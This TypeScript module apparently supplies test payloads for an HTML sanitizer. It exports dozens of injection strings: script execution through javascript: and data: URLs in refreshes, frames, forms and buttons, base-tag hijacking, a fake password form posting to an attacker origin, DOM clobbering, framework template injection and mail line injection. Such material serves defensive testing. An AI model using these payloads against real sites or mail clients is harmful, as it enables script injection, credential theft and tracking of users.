// What belongs to a page and not to a letter: bases, refreshes, frames, forms, media, and names that shadow others.
import { ATTACKER_ORIGIN, toBase64, type PayloadFamily } from './payload-family';

export const DOCUMENT_PAYLOADS: PayloadFamily = {
  'a base of all addresses': () => `<base href="${ATTACKER_ORIGIN}/"><img src="a.png"><base target=_top>`,
  'a refresh to a script': (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'a refresh to another page': () => `<meta http-equiv=refresh content="0;url=${ATTACKER_ORIGIN}/page">`,
  'a rule about content': () =>
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name=referrer content=unsafe-url>`,
  'a cookie': () => `<meta http-equiv="Set-Cookie" content="a=b">`,
  'links that load': () =>
    ['prefetch', 'preload', 'icon', 'modulepreload', 'manifest', 'dns-prefetch']
      .map((rel) => `<link rel=${rel} as=image href="${ATTACKER_ORIGIN}/${rel}">`)
      .join(''),
  'a link that loads a script': (run) => `<link rel=preload as=script href="data:,a" onload=${run} onerror=${run}>`,
  'an import of a page': () =>
    `<link rel=import href="${ATTACKER_ORIGIN}/a.html"><import src="${ATTACKER_ORIGIN}/b.html">`,
  'a frame with a script': (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  'a frame with a page': (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  'a frame with a page in entities': (run) => `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  'a frame with a data address': (run) => `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  'a frame that loads': (run) => `<iframe onload=${run}></iframe>`,
  'a frame from elsewhere': () =>
    `<iframe src="${ATTACKER_ORIGIN}/frame"></iframe><fencedframe src="${ATTACKER_ORIGIN}/fenced"></fencedframe>`,
  'a set of frames': (run) => `<frameset onload=${run}><frame src="javascript:${run}"></frameset>`,
  'an embedded page': (run) => `<embed src="data:text/html;base64,${toBase64(`<script>${run}</script>`)}">`,
  'an object with a page': (run) => `<object data="data:text/html,<script>${run}</script>"></object>`,
  'an object with an address': () =>
    `<object data="${ATTACKER_ORIGIN}/a.swf"><param name=movie value="${ATTACKER_ORIGIN}/b.swf"></object>`,
  'an applet': () => `<applet code="A" archive="${ATTACKER_ORIGIN}/a.jar"></applet>`,
  'a form that is a script': (run) => `<form action="javascript:${run}"><button>a</button></form>`,
  'a button that is a script': (run) => `<form><button formaction="javascript:${run}">a</button></form>`,
  'a button of a form elsewhere': (run) =>
    `<form id=f></form><input type=submit form=f formaction="javascript:${run}" value=a>`,
  'a form that asks for a password': () =>
    `<form action="${ATTACKER_ORIGIN}/take"><input name=password type=password><button>Sign in</button></form>`,
  'a field that is a picture': (run) => `<input type=image src=x onerror=${run}>`,
  'an old search field': (run) => `<isindex type=image src=x onerror=${run} action="javascript:${run}">`,
  'a choice of pictures': () => `<picture><source srcset="${ATTACKER_ORIGIN}/a.webp"><img></picture>`,
  'a picture map': (run) =>
    `<map name=m><area href="javascript:${run}" coords="0,0,9,9" onclick=${run}></map><img usemap="#m" src=x>`,
  'a video': () =>
    `<video poster="${ATTACKER_ORIGIN}/a.png" src="${ATTACKER_ORIGIN}/a.mp4" autoplay><track default src="${ATTACKER_ORIGIN}/a.vtt"></video>`,
  'a sound': () => `<audio src="${ATTACKER_ORIGIN}/a.mp3" autoplay></audio><bgsound src="${ATTACKER_ORIGIN}/b.mp3">`,
  'a page of its own': (run) =>
    `<html onclick=${run} manifest="${ATTACKER_ORIGIN}/m"><head><script>${run}</script></head><body onclick=${run} background="${ATTACKER_ORIGIN}/x.png">a`,
  'rules for scripts': (run) =>
    `<script type=importmap>{"imports":{"a":"data:,${run}"}}</script><script type=module>import 'a'</script>`,
  'rules for loading ahead': () =>
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${ATTACKER_ORIGIN}/s"]}]}</script>`,
  'a name that shadows another': () =>
    `<a id=location href="javascript:0"></a><a id=location name=href href="tel:1">a</a>`,
  'a form that shadows the page': () =>
    `<form name=body id=a><input name=attributes id=nodeName></form><img name=getElementById>`,
  'a frame that shadows a name': () =>
    `<iframe name=settings srcdoc="<a id=origin href='${ATTACKER_ORIGIN}'></a>"></iframe><p id=hit>a</p>`,
  'classes of the page': () =>
    `<p class="modal overlay" id=app data-action="a" data-bind="html:b" slot=x is=y part=z>a</p>`,
  'attributes of frameworks': (run) =>
    `<p v-html="${run}" ng-init="${run}" x-init="${run}" hx-get="${ATTACKER_ORIGIN}" @click="${run}" :is="a">{{constructor.constructor('${run}')()}}</p>`,
  'attributes that steer the reader': () =>
    `<a target=_blank download accesskey=a tabindex=1 rel=opener href="#a" ping="${ATTACKER_ORIGIN}">a</a>`,
  'lines of a mail': (run) => `Content-Type: text/html\r\n\r\n<script>${run}</script>\r\n.\r\n`,
};
